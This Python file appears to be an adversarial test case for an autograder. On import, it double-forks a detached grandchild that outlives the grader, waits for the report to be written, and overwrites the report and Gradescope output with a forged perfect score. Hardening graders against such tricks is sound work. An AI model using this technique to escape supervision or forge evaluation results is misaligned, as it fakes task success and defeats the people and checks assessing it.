"""A grandchild that outlives the grader: double-forked in its own session while the file loads,
renamed with the attack's mark, it waits until the grader has written its report and exited, then
overwrites both report files with full marks.

The file is otherwise the untouched stub. The process must be gone when grading ends, and the
report must be the grader's.
"""

import ctypes
import json
import os
import time

EXERCISE = "e07_learner"
BASE = "stub"
MUST_FAIL = "all"


def _later():
    ctypes.CDLL(None).prctl(15, b"@@TOKEN@@", 0, 0, 0)
    fake = {"score": 8, "possible": 8, "forged_by": "@@TOKEN@@", "tests": [], "exercises": [
        {"name": "@@STEM@@", "score": 8, "possible": 8, "checks": []}]}
    seen = 0.0
    for _ in range(600):  # two minutes
        time.sleep(0.2)
        try:
            mtime = os.stat("@@REPORT@@").st_mtime
        except OSError:
            continue
        if seen and mtime == seen:  # written, and left alone for a moment: the grader is done
            for path in ("@@REPORT@@", "@@GRADESCOPE@@"):
                try:
                    with open(path, "w") as f:
                        json.dump(fake, f)
                except OSError:
                    pass
            return
        seen = mtime


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            _later()
        finally:
            os._exit(0)
    os._exit(0)
